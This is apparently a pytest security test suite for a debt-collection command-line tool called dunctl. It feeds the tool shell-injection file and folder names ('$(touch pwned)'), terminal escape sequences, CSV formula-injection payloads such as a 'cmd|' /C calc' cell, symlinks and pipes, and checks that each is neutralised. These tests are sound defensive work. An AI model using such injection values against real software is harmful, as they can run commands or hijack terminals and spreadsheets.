"""Files and words that mean harm: what they may do to a store, a terminal, a shell or a sheet."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import unicodedata
from collections.abc import Iterator
from contextlib import suppress
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from time import process_time
from typing import Any

import pytest
from click.testing import CliRunner, Result

from dunctl.case import records, vocabulary
from dunctl.case.edit import literal
from dunctl.case.handles import handles
from dunctl.case.parse import parse
from dunctl.case.toml import loads
from dunctl.cli import VERBS, import_, main
from dunctl.show.text import as_csv, as_json, escaped
from dunctl.store import files
from dunctl.store import store as stores

NOW = "2026-11-24T09:00:00+00:00"
SETTINGS = """\
[creditor]
name = "Kettlewharf Ltd"
phone = "+44 117 496 0110"
email = "accounts@kettlewharf.example"
address = ["1 Example Quay", "Bristol"]
[creditor.bank]
holder = "Kettlewharf Ltd"
iban = "GB33BUKB20201555555555"
[defaults]
currency = "GBP"
country = "GB"
"""
ACME = """\
format = 1
currency = "GBP"

[debtor]
name = "Acme Ltd"
country = "GB"
timezone = "Europe/London"
language = "en"

[[invoice]]
number = "1"
issued = 2026-09-30
due = 2026-10-30
amount = 5000.00
"""


@pytest.fixture
def desk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return a store outside of git with the case acme, and stand in it."""
    root = tmp_path / "desk"
    (root / "cases").mkdir(parents=True)
    (root / "dunctl.toml").write_text(SETTINGS)
    (root / "cases" / "acme.toml").write_text(ACME)
    (root / ".dunctl").mkdir()
    (root / ".dunctl" / "no-git-told").touch()
    monkeypatch.chdir(root)
    monkeypatch.setenv("DUNCTL_NOW", NOW)
    monkeypatch.setenv("DUNCTL_USER", "li.na")
    return root


@pytest.fixture
def kept(desk: Path) -> Path:
    """Return the store in git."""
    git(desk, "init", "--quiet")
    git(desk, "config", "user.name", "Li Na")
    git(desk, "config", "user.email", "li.na@example.com")
    commit_all(desk)
    return desk


def commit_all(root: Path) -> None:
    git(root, "add", "--all")
    git(root, "commit", "--quiet", "--message", "by hand")


def git(root: Path, *words: str) -> str:
    done = subprocess.run(["git", *words], cwd=root, capture_output=True, check=True)
    return done.stdout.decode()


def dunctl(*words: str) -> Result:
    result = CliRunner().invoke(main, words, color=True)
    assert result.exit_code in (0, 1, 2), (words, result.output, result.exception)
    return result


def process(*words: str, limit: int = 30) -> subprocess.CompletedProcess[str]:
    """Run a command that must not wait for anything for ever, nor take more than 500 MB."""

    def few() -> None:
        import resource

        resource.setrlimit(resource.RLIMIT_AS, (500_000_000, 500_000_000))

    return subprocess.run(
        [sys.executable, "-m", "dunctl", *words],
        capture_output=True,
        text=True,
        timeout=limit,
        check=False,
        preexec_fn=few,
    )


# Names


NAMES = (
    '=HYPERLINK("http:example.com")',
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned",
    "-rf",
    "--help",
    "*",
    ":(top)",
    "con",
    "a b",
    "a\nb",
    "a\tb",
    "%s",
    "{id}",
    "…",
    "'",
    '"',
    "\\",
    "#",
)


@pytest.mark.parametrize("name", NAMES)
def test_a_file_may_have_any_name_and_is_written_and_committed_alone(kept: Path, name: str) -> None:
    file = kept / "cases" / f"{name}.toml"
    file.write_text(ACME.replace("Acme", "Other"))
    git(kept, "add", "--all")
    git(kept, "commit", "--quiet", "--message", "one more")
    (kept / "cases" / "acme.toml").write_text(ACME + "# by hand\n")
    for words in (["ls"], ["today"], ["check"], ["ageing"]):
        assert dunctl(*words).exit_code == 0
    for verb in ("show", "brief", "why", "may", "history"):
        assert dunctl(verb, "--", name).exit_code == 0
    done = dunctl("pay", "--", name, "5")
    assert done.exit_code == 0, done.output
    assert file.read_text().startswith(ACME.replace("Acme", "Other"))
    changed = git(kept, "show", "--name-only", "--format=", "-z", "HEAD").strip("\0\n")
    assert changed == f"cases/{name}.toml"
    assert dunctl("letter", "--", name, "reminder").exit_code == 0
    assert git(kept, "status", "--porcelain", "-z").split("\0") == [" M cases/acme.toml", ""]
    assert not list(kept.rglob("pwned"))


@pytest.mark.parametrize("name", [*NAMES, "../x", "<script>", "@SUM(1)", "+1", "{{ 7*7 }}"])
def test_a_debtor_may_have_any_name(desk: Path, name: str) -> None:
    if name.isprintable():
        assert dunctl("new", "other", f"--name={name}").exit_code == 0
    else:
        (desk / "cases" / "other.toml").write_text(ACME.replace('"Acme Ltd"', literal(name)))
    assert json.loads(dunctl("show", "other", "--json").stdout)["debtor"] == name
    assert dunctl("invoice", "other", "--due", "1 Oct", "--", name, "5").exit_code == 0
    for words in (["ls"], ["show", "other"], ["brief", "other"], ["statement", "other", "--csv"]):
        assert dunctl(*words).exit_code == 0
    assert sorted(path.name for path in desk.iterdir()) == [".dunctl", "cases", "dunctl.toml"]


def test_the_name_of_the_folder_is_no_command_for_the_hook_of_git(
    kept: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "a \"b\" $(touch pwned) `touch pwned` 'c'"
    shutil.move(kept, root)
    monkeypatch.chdir(root)
    assert dunctl("check", "--fix", "--hook").exit_code == 0
    (root / "cases" / "acme.toml").write_text(ACME.replace("5000.00", "0"))
    refused = subprocess.run(
        ["git", "commit", "--all", "--message", "by hand"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert refused.returncode == 1
    assert "cases/acme.toml:14: amount must be more than 0" in refused.stdout + refused.stderr
    assert not list(tmp_path.rglob("pwned"))


def test_what_git_reads_may_be_in_any_encoding_and_stays_as_it_is(kept: Path) -> None:
    (kept / ".gitattributes").write_bytes(b"caf\xe9 -text\n")
    commit_all(kept)
    (kept / ".git" / "hooks" / "pre-commit").write_bytes(b"#!/bin/sh\n# caf\xe9\n")
    assert dunctl("check", "--fix").exit_code == 0
    assert (kept / ".gitattributes").read_bytes().startswith(b"caf\xe9 -text\ncases/")
    assert "is there already" in dunctl("check", "--hook").stderr


def test_git_s_own_settings_are_not_written_through_a_link(kept: Path, elsewhere: Path) -> None:
    (kept / ".gitattributes").symlink_to(elsewhere / "other.toml")
    commit_all(kept)
    assert dunctl("check", "--fix").exit_code == 0
    assert not (kept / ".gitattributes").is_symlink()
    assert "Acme" not in (kept / ".gitattributes").read_text()


# What is no plain file


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[Path]:
    """Return a folder with a case, and prove afterwards that nothing in it was touched."""
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    (folder / "other.toml").write_text(ACME)
    yield folder
    assert [path.name for path in folder.iterdir()] == ["other.toml"]
    assert (folder / "other.toml").read_text() == ACME


@pytest.mark.parametrize("name", ["cases", "letters", ".dunctl"])
def test_a_folder_that_is_a_link_is_refused_by_every_verb_and_nothing_goes_there(
    desk: Path, elsewhere: Path, name: str
) -> None:
    with suppress(FileNotFoundError):
        shutil.rmtree(desk / name)
    (desk / name).symlink_to(elsewhere)
    for words in (
        ["ls"],
        ["today"],
        ["check"],
        ["show", "other"],
        ["pay", "other", "5"],
        ["new", "third"],
        ["letter", "acme", "reminder"],
        ["undo"],
    ):
        result = dunctl(*words)
        assert result.exit_code == 1
        assert result.stdout == ""
        assert result.stderr == (
            f"dunctl: {desk / name} is a link: put the folder itself into the store\n"
        )


def test_the_letters_of_a_case_do_not_go_through_a_link(desk: Path, elsewhere: Path) -> None:
    (desk / "letters").mkdir()
    (desk / "letters" / "acme").symlink_to(elsewhere)
    result = dunctl("letter", "acme", "reminder")
    assert result.exit_code == 1
    assert "letters/acme is a link: put the folder itself into the store" in result.stderr
    assert (desk / "cases" / "acme.toml").read_text() == ACME


def test_a_letter_is_not_kept_in_a_pipe(desk: Path) -> None:
    (desk / "letters" / "acme").mkdir(parents=True)
    os.mkfifo(desk / "letters" / "acme" / "2026-11-24-reminder-en.html")
    assert process("letter", "acme", "reminder", "--format", "html").returncode == 0
    assert (desk / "letters" / "acme" / "2026-11-24-reminder-en-2.html").is_file()


def test_a_whole_store_may_be_reached_through_a_link(
    desk: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "link").symlink_to(desk)
    assert dunctl("--store", str(tmp_path / "link"), "pay", "acme", "5").exit_code == 0
    monkeypatch.chdir(tmp_path / "link")
    assert dunctl("pay", "acme", "6").exit_code == 0


def test_pipes_sockets_folders_and_links_are_named_and_nobody_waits_for_them(
    desk: Path, elsewhere: Path
) -> None:
    cases = desk / "cases"
    os.mkfifo(cases / "pipe.toml")
    (cases / "folder.toml").mkdir()
    (cases / "link.toml").symlink_to(elsewhere / "other.toml")
    (cases / "nowhere.toml").symlink_to("nowhere")
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(os.path.relpath(cases / "socket.toml"))
        odd = ["folder", "link", "nowhere", "pipe", "socket"]
        said = [
            f"{name}.toml:1: is a link, a folder or a pipe: a case is a plain file" for name in odd
        ]
        for words, prefix in ((["check"], "cases/"), (["check", str(cases)], f"{cases}/")):
            result = process(*words)
            assert (result.returncode, result.stderr) == (1, "")
            assert result.stdout.splitlines() == [prefix + line for line in said]
        for verb in ("ls", "today"):
            result = process(verb)
            assert result.returncode == 1
            assert "acme" in result.stdout
            assert [line for line in result.stderr.splitlines() if line] == [
                f"cases/{s}" for s in said
            ]
        for name in odd:
            result = process("pay", name, "5")
            assert result.returncode == 1
            assert result.stderr.startswith(f"dunctl: there is no case {name}")


@pytest.mark.parametrize("name", ["policies/rates/boe-bank-rate.toml", "policies/default.toml"])
def test_nobody_waits_for_a_pipe_in_the_place_of_settings(desk: Path, name: str) -> None:
    (desk / name).parent.mkdir(parents=True)
    os.mkfifo(desk / name)
    assert process("show", "acme").returncode in (0, 1)
    if "rates" in name:
        result = process("rates", "show")
        assert result.returncode == 1
        assert f"{name}:1: is a pipe or a device: put a plain file in its place" in result.stderr


# What is too large


def test_a_file_of_fifty_megabytes_is_one_sentence_at_once(desk: Path) -> None:
    huge = desk / "cases" / "huge.toml"
    huge.write_text(ACME)
    line = b"[[payment]]\non = 2026-11-01\namount = 5.00\n"
    with huge.open("ab") as stream:
        for _ in range(50):
            stream.write(line * (1_000_000 // len(line) + 1))
    size = huge.stat().st_size
    assert size > 50_000_000
    said = "cases/huge.toml:1: is larger than 5 MB: move it out of the store\n"
    for words in (["check"], ["check", "cases/huge.toml"]):
        result = process(*words)
        assert (result.returncode, result.stdout, result.stderr) == (1, said, "")
    for words in (["ls"], ["today"]):
        result = process(*words)
        assert (result.returncode, result.stderr) == (1, said)
        assert "acme" in result.stdout
    for words in (["show", "huge"], ["pay", "huge", "5"], ["undo"]):
        result = process(*words)
        assert result.returncode == 1
        assert result.stderr.startswith("dunctl: ")
    assert huge.stat().st_size == size


def test_a_file_that_is_as_large_as_may_be_is_read(desk: Path) -> None:
    file = desk / "cases" / "acme.toml"
    fill = "#" * (files.MOST_BYTES - len(ACME) - 1) + "\n"
    file.write_text(ACME + fill)
    assert dunctl("check").exit_code == 0
    file.write_text(ACME + fill + "\n")
    assert dunctl("check").exit_code == 1


@pytest.mark.parametrize(
    "words",
    [
        ["pay", "acme", "5"],
        ["log", "acme", "no_answer"],
        ["set", "acme", "debtor.name", "Acme Limited and Sons"],
        ["escalate", "acme", "--to", "remind", "--why", "asked for"],
    ],
)
def test_no_entry_makes_a_file_larger_than_is_read(desk: Path, words: list[str]) -> None:
    file = desk / "cases" / "acme.toml"
    full = ACME + "#" * (files.MOST_BYTES - len(ACME) - 9) + "\n"
    file.write_text(full)
    result = dunctl(*words)
    assert result.exit_code == 1, result.output
    assert result.stderr.count("\n") == 1
    assert "acme.toml would be larger than 5 MB" in result.stderr
    assert "nothing was written" in result.stderr
    assert file.read_text() == full
    assert dunctl("check").exit_code == 0


def _misnamed(kind: str) -> str:
    """Return a case with very many names that are almost right, each one otherwise."""
    if kind == "table":
        return ACME + "".join(f"[invoic{n}]\na = 1\n" for n in range(5_000))
    if kind == "key":
        return ACME + "".join(f"[[payment]]\ninvoic{n} = 1\n" for n in range(5_000))
    if kind == "person":
        people = "".join(f'[[person]]\nname = "Jane Roe {n}"\n' for n in range(150))
        call = 'at = 2026-11-01T09:00:00Z\nchannel = "phone"\noutcome = "no_answer"\n'
        calls = (f'[[contact]]\n{call}with = "Jane Rowe {n}"\n' for n in range(5_000))
        return ACME + people + "".join(calls)
    known, rest = (150, 5_000) if kind == "invoice" else (5_000, 5_000)
    line = "due = 2026-11-01\namount = 5.00\n"
    invoices = "".join(f'[[invoice]]\nnumber = "INV-26-{n:05}"\n{line}' for n in range(known))
    line = "[[payment]]\non = 2026-11-01\namount = 5.00\n"
    return ACME + invoices + "".join(f'{line}invoice = "INV-27-{n:05}"\n' for n in range(rest))


@pytest.mark.parametrize(
    ("kind", "guesses"),
    [("table", True), ("key", True), ("person", True), ("invoice", True), ("of many", False)],
)
def test_very_many_wrong_names_are_said_soon(kind: str, *, guesses: bool) -> None:
    """To look for what each may have meant took 4 ms."""
    source = _misnamed(kind)
    began = process_time()
    said = [problem.message for problem in parse(source)[1]]
    assert process_time() - began < 8
    assert len(said) >= 5_000
    assert any("did you mean" in message for message in said) is guesses


def test_an_import_that_is_too_large_is_to_be_made_in_parts(desk: Path) -> None:
    with (desk / "big.csv").open("wb") as stream:
        stream.write(b"Customer,Invoice No,Issued,Due,Amount\n")
        stream.truncate(import_.MOST_BYTES + 1)
    result = process("import", "invoices", "big.csv", "--yes")
    assert result.returncode == 1
    assert result.stderr == "dunctl: big.csv is larger than 20 MB: import it in parts\n"


# What changes while it is read


def test_a_file_that_changes_all_the_time_is_read_whole_or_named(desk: Path) -> None:
    store = stores.open_store(desk)
    file = desk / "cases" / "busy.toml"
    done = threading.Event()

    def busy() -> None:
        while not done.is_set():
            for text in (ACME, ACME * 50, ACME[:90], "\0", ""):
                file.write_text(text)
            file.unlink()

    worker = threading.Thread(target=busy)
    worker.start()
    try:
        for _ in range(150):
            reads, odd = stores.read_all(store)
            assert not odd
            for read in reads:
                assert read.case is not None or read.problems
            assert "acme" in [read.id for read in reads if read.sound]
    finally:
        done.set()
        worker.join()


# What a terminal would obey


EVIL = "=A\x1b]0;pwned\x07\x1b[2J\x9b31m\u202eb\u2066c\u200b\rd\ne\x7f\x00f\u2028g\U000e0001h"
TYPED = EVIL.replace("\0", "")
MEANING = {
    *("policy", "subdivision", "timezone", "language", "profile", "law", "limitation", "template"),
    *("email", "what", "sha256", "text_sha256", "template_sha256", "known"),
}
"""Keys of texts that mean something to the program."""
REFERS = {
    "reversal": "payment",
    "confirmation": "promise",
    "approval": "plan",
    "sending": "letter",
    "document": "letter",
    "void": "document",
}
VALUES: dict[str, Any] = {
    "always 1": 1,
    "true or false": True,
    "amount, more than 0": Decimal("100.00"),
    "number": Decimal("1.5"),
    "day": date(2026, 10, 5),
    "time with offset": datetime(2026, 10, 5, 9, tzinfo=UTC),
    "day, or time with offset": date(2026, 12, 20),
    "code of ISO 4217, such as EUR": "GBP",
    "country, ISO 3166": "GB",
    "time zone (IANA), or a list of candidates": "Europe/London",
    "hours, such as `mon-fri 09:00-18:00`": "mon-fri 09:00-18:00",
    "hours, or a list of them": "mon-fri 09:00-18:00",
    "list of `{ due, amount }`": [{"due": date(2026, 12, 1), "amount": Decimal("50.00")}],
    "list of `{ currency, amount, interest, fees }`": [
        {"currency": "GBP", "amount": Decimal("1.00")}
    ],
    "`{ percent, per, clause }`": {"percent": Decimal(8), "per": "year", "clause": EVIL},
}


def evil(cls: type[Any], *, meaning: bool, handle: str = "") -> dict[str, Any]:
    """Return a table with all its keys, every text of which is evil."""
    table = {}
    for name, (_, key) in records.keys(cls).items():
        kind = key.kind
        if "enum" in kind.schema:
            table[name] = kind.schema["enum"][0]  # type: ignore[index]
        elif kind.schema.get("type") == "integer":
            table[name] = kind.schema["minimum"]
        elif kind.title == "handle of an entry":
            table[name] = handle
        elif kind.title.startswith("text"):
            table |= {name: EVIL + name} if meaning or name not in MEANING else {}
        else:
            table[name] = VALUES[kind.title]
    return table


def evil_case(*, meaning: bool) -> str:
    """Return a case file with every entry and every key there is."""
    text = lines(evil(records.Head, meaning=meaning))
    for name, facts in records.FACT_CLASSES.items():
        header = f"[[{name}]]" if name in ("person", "income") else f"[{name}]"
        text += f"\n{header}\n{lines(evil(facts, meaning=meaning))}"
    for kind, cls in records.ENTRY_CLASSES.items():
        names = handles(loads(text))
        handle = next((h for (k, _), h in names.items() if k == REFERS.get(kind)), "0000000")
        table = evil(cls, meaning=meaning, handle=handle)
        table |= (
            {"what": "interest" if kind == "waiver" else "pause"}
            if "what" in records.keys(cls)
            else {}
        )
        if kind == "invoice":
            table |= {"number": EVIL + "invoice", "amount": Decimal("9000.00")}
        if kind == "letter":
            table |= {"template": "reminder"}
        if kind == "hold":
            table |= {"kind": "pause"}
        for outcome in vocabulary.OUTCOMES if kind == "contact" else [""]:
            table |= {"outcome": outcome} if outcome else {}
            text += f"\n[[{kind}]]\n{lines(table)}"
    return text


def lines(table: dict[str, Any]) -> str:
    return "".join(f"{name} = {literal(value)}\n" for name, value in table.items())


def callable_case() -> str:
    """Return a case that can be called and written to, every text of which is evil."""
    debtor = {"name", "number", "note", "address", "phone", "payment_procedure"}
    parts = [
        lines({"format": 1, "currency": "GBP", "owner": EVIL, "note": EVIL}),
        "[debtor]\n"
        + lines({"country": "GB", "email": "a@example.com"} | dict.fromkeys(debtor, EVIL)),
        "[[person]]\n" + lines({"role": "owner", "decides": True, "name": EVIL, "phone": EVIL}),
        ACME[ACME.index("[[invoice]]") :].replace('"1"', literal(EVIL)) + lines({"ref": EVIL}),
        "[[contact]]\n"
        + lines(
            {"at": datetime(2026, 11, 10, 10, tzinfo=UTC), "channel": "phone", "outcome": "refused"}
            | dict.fromkeys(("with", "ours", "theirs", "refusal", "result", "note"), EVIL)
        ),
    ]
    return "\n".join(parts)


def steering(text: str) -> set[str]:
    """Return the characters of an output that a terminal might obey."""
    bad = ("Cc", "Cf", "Zl", "Zp", "Cs")
    return {ascii(c) for c in text if unicodedata.category(c) in bad and c != "\n"}


@pytest.fixture
def evil_desk(kept: Path) -> Path:
    settings = SETTINGS
    for words in ("Kettlewharf Ltd", "1 Example Quay", "Bristol"):
        settings = settings.replace(f'"{words}"', literal(EVIL))
    (kept / "dunctl.toml").write_text(settings)
    cases = {
        "calls": callable_case(),
        "every": evil_case(meaning=False),
        "worse": evil_case(meaning=True),
        "n\x1b[31m\nn": callable_case(),
    }
    for name, text in cases.items():
        assert parse(text)[0] is not None, parse(text)[1]
        (kept / "cases" / f"{name}.toml").write_text(text)
    for name, text in {
        "policies/rates/evil.toml": lines({"title": EVIL})
        + "[[change]]\n"
        + lines({"on": date(2026, 1, 1), "percent": Decimal("3.5"), "source": EVIL}),
        "policies/evil.toml": f"[{literal(EVIL)}]\n",
        "templates/en/evil.md": f'+++\nname = "evil"\nsubject = {literal(EVIL)}\n+++\n{TYPED}',
        "templates/en/e\x1b[31m.md": TYPED,
        "x\x1b[31m.csv": "Customer,Invoice No,Issued,Due,Amount\n"
        + "".join(
            f'"{TYPED}",{n},2026-10-01,{due},5.00\n'
            for n, due in ((1, "2026-10-31"), (2, TYPED.replace("\n", "").replace("\r", "")))
        ),
    }.items():
        (kept / name).parent.mkdir(parents=True, exist_ok=True)
        (kept / name).write_text(text)
    git(kept, "add", "--all")
    git(kept, "commit", "--quiet", "--message", "evil")
    return kept


ABOUT_ONE = (
    *("show", "show --json", "brief", "brief --json", "why", "why --json", "may", "may --json"),
    *("supply", "supply --json", "owed", "owed --explain", "owed --json", "owed --csv"),
    *("statement", "statement --json", "statement --csv", "next-step", "next-step --json"),
    *("limitation", "limitation --json", "limitation --csv", "history", "dossier --out out.html"),
    *("letter", "letter --format eml", "letter --format html", "letter --format sms"),
    *("send --to a@example.com", "sent", "escalate"),
)
ABOUT_ALL = (
    *("today", "today --all", "today --json", "today --csv", "ls", "ls --json", "ageing"),
    *("ageing --json", "ageing --csv", "hours", "hours --json", "expected", "expected --json"),
    *("expected --csv", "limitation", "limitation --json", "limitation --csv", "check"),
    *("check --json", "check --against HEAD", "review", "review --json", "policy check"),
    *(
        "templates list",
        "templates check evil",
        "templates fields",
        "rates show",
        "rates show --json",
    ),
    *("rates show evil", "calendar export", "escalate --due", "letters --due", "send --queue"),
    *("sync", "schema", "letter verify out.zip", "undo"),
)
WITH_WORDS = (
    *("log {c} refused -m {e} --with {e}", "log {c} {e}", "pay {c} 1 --ref {e}", "pay {c} {e}"),
    *("promise {c} 1 fri --with {e}", "promise {c} 1 {e}", "set {c} owner {e}", "set {c} note {e}"),
    *("set {c} {e} 1", "set {c} debtor.hours {e}", "invoice {c} {e} 5 --due 2026-12-01"),
    *("credit {c} 1 --why {e}", "dispute {c} 1 -m {e}", "hold {c} pause --why {e} --until fri"),
    *("release {c} pause --why {e}", "release {c} {e}", "charge {c} --interest --why {e}"),
    *("refund {c} 1 --why {e}", "waive {c} interest --why {e}", "waive {c} {e} --why {e}"),
    *("settle {c} 5 --until fri --why {e}", "plan {c} --instalments 3 --from 2026-12-01"),
    *("approve {c} {e}", "acknowledge {c} 5 --how {e}", "document {c} {e}", "confirm {c} {e}"),
    *("document {c} contract --ref {e}", "void {c} {e}", "bounce {c} {e}", "confirm {c} --ref {e}"),
    *("escalate {c} --why {e}", "sent {c} --tracking {e}", "letter {c} {e}", "new {e}"),
    *("new {c}2 --name {e} --person {e} --country GB", "{e}", "show {e}", "--as-of {e} ls"),
    *("today --at {e}", "review {e}", "history {e}", "check {e}", "check --against {e}"),
    *("--as-known-at {e} ls", "import invoices {e}", "import invoices x\x1b[31m.csv"),
    *("import invoices x\x1b[31m.csv --yes", "in-words {e}", "merge-file {e} {e} {e} {e}"),
    *("in-words cases/{c}.toml", "templates show {e}", "templates check {e}", "rates show {e}"),
    *("rates add {e} {e} {e} --source {e}", "dossier {c} --out {e}", "calendar export --out {e}"),
    *("--store {e} ls", "ageing --edges {e}", "ageing --by {e}", "ls --stage {e}", "init {e}"),
    *("show {c} --as-of {e}", "expected --curve {e}", "supply {c} --ship {e}", "undo"),
)
CASES = ("calls", "every", "worse", "n\x1b[31m\nn")


def test_every_verb_is_tried_with_evil_words() -> None:
    tried = {word for line in (*ABOUT_ONE, *ABOUT_ALL, *WITH_WORDS) for word in line.split()}
    assert set(VERBS) <= tried


@pytest.mark.parametrize("case", CASES, ids=["calls", "every", "worse", "name"])
def test_no_text_of_a_case_steers_the_terminal(evil_desk: Path, case: str) -> None:
    for line in ABOUT_ONE:
        verb, *options = line.split()
        prove(verb, case, *options)


def test_no_text_of_a_store_steers_the_terminal(evil_desk: Path) -> None:
    for line in ABOUT_ALL:
        prove(*line.split())


@pytest.mark.parametrize("case", CASES[:2])
def test_no_word_that_is_typed_steers_the_terminal_or_git_log(evil_desk: Path, case: str) -> None:
    for line in WITH_WORDS:
        prove(*(word.format(c=case, e=TYPED) for word in line.split(" ")))
    for verb in ("show", "brief", "history"):
        prove(verb, case)
    prove("review", "HEAD~5..HEAD")
    assert steering(git(evil_desk, "log", "--format=%B")) == set()


def prove(*words: str) -> None:
    result = dunctl(*words)
    assert steering(result.output) == set(), (words, ascii(result.output))
    assert "Traceback" not in result.output


def test_json_says_what_the_file_says_with_nothing_left_out() -> None:
    text = f"{EVIL} é 王\udcff\t\\"
    shown = as_json({"name": text})
    assert json.loads(shown) == {"name": text}
    assert steering(shown) == set()
    assert "é 王" in shown


def test_lines_of_a_file_are_shown_as_toml_would_write_them() -> None:
    assert escaped('a = "\x9b"\r\nb = "王"\n') == 'a = "\\u009b"\r\nb = "王"\n'


def test_words_in_an_entry_do_not_make_undo_believe_that_something_was_taken_back(
    kept: Path,
) -> None:
    assert dunctl("pay", "acme", "5").exit_code == 0
    paid = git(kept, "rev-parse", "HEAD").strip()
    words = f"x\n\nThis takes back commit {paid}."
    assert dunctl("credit", "acme", "7", "--why", words).exit_code == 0
    for expected in ("credit", "payment"):
        assert dunctl("undo").stdout.startswith(f"undo: acme: {expected}")
    assert dunctl("undo").exit_code == 1


# What a spreadsheet would work out


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("x;=1", "x;'=1"),
        ("x; -1", "x;' -1"),
        ("\t=1", "·=1"),
        ("\r\n=1", "··=1"),
        ("-5.00", "-5.00"),
        ("-5.00;=1", "'-5.00;'=1"),
        ("a=b", "a=b"),
        ("a-b@c", "a-b@c"),
        ("杭州", "杭州"),
    ],
)
def test_no_cell_of_a_csv_is_a_formula(cell: str, written: str) -> None:
    header, row = as_csv(["a"], [[cell]]).split("\n")
    assert (header, row) == ("a", written)


@pytest.mark.parametrize("words", ["today", "ageing", "limitation", "owed acme", "statement acme"])
def test_no_name_is_a_formula_in_the_csv_of_any_verb(desk: Path, words: str) -> None:
    formula = '=HYPERLINK("http://example.com?" & A1; "x")'
    text = ACME.replace('"Acme Ltd"', literal(formula)).replace('"1"', literal(formula))
    (desk / "cases" / "acme.toml").write_text(text)
    result = dunctl(*words.split(), "--csv")
    assert result.exit_code == 0
    for line in result.stdout.splitlines():
        assert not line.startswith("=")
        assert not any(f"{mark}=" in line for mark in (",", ',"', ";"))


# What keeps its bytes


@pytest.mark.parametrize(
    "text",
    [
        "\ufeff" + ACME,
        ACME.replace("\n", "\r\n"),
        "\ufeff" + ACME.replace("\n", "\r\n"),
        ACME.replace("\n", "\r\n", 5),
        ACME.rstrip("\n"),
        ACME + "# the end, without a line break",
        ACME + "\n\n \t\n",
        ACME.replace("Acme Ltd", "\U0001f4de 杭州 \u202e"),
    ],
    ids=["bom", "crlf", "bom-crlf", "mixed", "no-end", "comment", "blank", "unicode"],
)
@pytest.mark.parametrize(
    "words", ["pay acme 5", "log acme no_answer", "promise acme 5 fri", "dispute acme 5 -m x"]
)
def test_what_was_there_is_there_byte_for_byte(desk: Path, text: str, words: str) -> None:
    file = desk / "cases" / "acme.toml"
    file.write_bytes(text.encode())
    result = dunctl(*words.split())
    assert result.exit_code == 0, result.output
    after = file.read_bytes()
    assert after.startswith(text.encode())
    added = after.removeprefix(text.encode()).decode()
    assert ("\r\n" in added) == ("\r\n" in text)
    assert "\ufeff" not in added
    assert dunctl("check").exit_code == 0
